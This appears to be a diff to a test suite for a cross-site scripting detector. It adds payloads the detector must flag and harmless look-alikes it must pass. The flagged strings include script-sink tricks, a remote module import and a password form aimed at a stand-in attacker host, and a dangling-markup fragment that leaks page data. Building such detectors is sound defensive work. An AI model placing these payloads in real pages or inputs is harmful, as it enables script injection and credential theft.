@@ -51,6 +51,14 @@ describe('xss: JavaScript without markup', () => {
     ], ['xss-010', 'xss-005']);
   });
 
+  it('finds sinks passed as callbacks, called optionally or through call/apply, and remote module imports', () => {
+    assertFound([
+      '[7].map(confirm)', 'prompt?.(3)', 'confirm.call(null, 2)', 'eval.apply(0, ["x"])', "import('//evil.example/m.js')",
+      '{onerror=prompt}throw 5', "';self.onerror=eval;throw'=confirm\\x281\\x29'//",
+    ], ['xss-004', 'xss-005', 'xss-010']);
+    assertClean(['fire(alert) drills', 'the (alert) was raised', "import('./module.js')", 'alert.mp3 (2 MB)']);
+  });
+
   it('finds constructor chains, tagged-template calls and JSFuck', () => {
     assertFound([
       '[]["constructor"]["constructor"]("x")()', "''.constructor.constructor('y')()", '{}.constructor.constructor`z```',
@@ -96,7 +104,9 @@ describe('xss: markup that loads or redirects', () => {
       '<link rel="stylesheet" href="//evil.example/s.css">', '<link rel=import href=/x.html>',
       '<style>@import "//evil.example/s.css";</style>', '<style>@im\\port "x.css";</style>', '<button formaction="https://evil.example/">send</button>',
       '<iframe src=https://evil.example/frame.html>', '<iframe src="https://evil.example/frame.html" <',
-      '<layer src="https://evil.example/l.html">', '<meta charset="UTF-7">',
+      '<layer src="https://evil.example/l.html">', '<meta charset="UTF-7">', '<embed src="clip.swf">',
+      '<form action="https://evil.example/l"><input type="password" name="pw"></form>', '"><img src=\'//evil.example/?',
+      '<a href="http://3232235777/">x</a>', '<img src="//0x7f.0x0.0x0.0x1/a.png">',
     ], ['xss-007', 'xss-008']);
   });
 
@@ -109,6 +119,9 @@ describe('xss: markup that loads or redirects', () => {
       '<!DOCTYPE html><html><head><meta charset="utf-8"><title>T</title></head><body><p>x</p></body></html>',
       '<?xml version="1.0"?><rss version="2.0"><channel><link>https://www.example.com/</link></channel></rss>',
       '<link rel="canonical" href="https://www.example.com/">', '<form><input name="q"></form>', 'what is <meta charset> for',
+      '<embed src="/files/brochure.pdf" type="application/pdf" width="100%">', '<a href="http://192.168.1.1/">router</a>',
+      '<html><head><link href="https://fonts.example.com/css?family=Lato" rel="stylesheet"><style>@import url("https://fonts.example.com/a.css");</style></head><body>Hi</body></html>',
+      '<!doctype html><html><head><base href="/"></head><body><app-root></app-root></body></html>',
     ]);
   });
 
